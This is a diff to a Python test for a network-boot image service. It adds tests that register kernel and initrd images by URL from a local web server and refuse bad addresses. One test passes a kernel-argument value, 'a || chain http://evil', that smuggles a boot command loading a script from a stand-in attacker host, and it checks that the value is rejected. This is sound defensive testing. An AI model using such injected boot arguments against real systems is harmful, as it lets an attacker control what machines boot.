@@ -2,11 +2,15 @@
 """RAM disks, by the programs: a kernel and its initrd come in as two files, as an archive and in an ISO; machines that are simulated but for
 their firmware, which this test plays, fetch script, kernel and initrd and are active then; nothing else fetches them; what would need a disk
 is refused; another image ends it."""
+import contextlib
+import functools
+import http.server
 import pathlib
 import re
 import struct
 import subprocess
 import sys
+import threading
 import urllib.error
 import urllib.request
 
@@ -65,6 +69,16 @@ class Firmware:
             return error.code
 
 
+@contextlib.contextmanager
+def served(folder):
+    """The address of a web server with @p folder's files."""
+    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=folder)
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}/"
+        server.shutdown()
+
+
 def intake(service, folder):
     (folder / "vmlinuz").write_bytes(kernel())
     (folder / "initrd.img").write_bytes(INITRD)
@@ -82,6 +96,14 @@ def intake(service, folder):
         {i["kind"] for i in service.json("image", "list")} == {"ramdisk"}
 
     refused(service, "HdrS", "image", "add", "--kernel", str(folder / "initrd.img"), "--initrd", str(folder / "vmlinuz"), "--name", "mixed-up")
+    with served(folder) as site:
+        by_address = ["--kernel", site + "vmlinuz", "--initrd", site + "initrd.img"]
+        service.run("image", "add", *by_address, "--name", "by-address")
+        assert service.json("image", "show", "by-address")["content_id"] == image["content_id"], "other bytes by address"
+        service.run("image", "delete", "by-address")
+        refused(service, "answered 404", "image", "add", "--kernel", site + "ghost", "--initrd", site + "initrd.img", "--name", "ghost")
+    refused(service, "http(s) address", "image", "add", "--kernel", "ftp://a/vmlinuz", "--initrd", site + "initrd.img", "--name", "ftp")
+    refused(service, "give it as a file", "image", "add", *by_address, "--name", "gone")
     refused(service, "one file or address", "image", "add", "--kernel", str(folder / "vmlinuz"), "--name", "half")
     refused(service, "boot script", "image", "add", *pair, "--name", "evil", "--kernel-arguments", "a || chain http://evil")
     disk = service.disk_image()
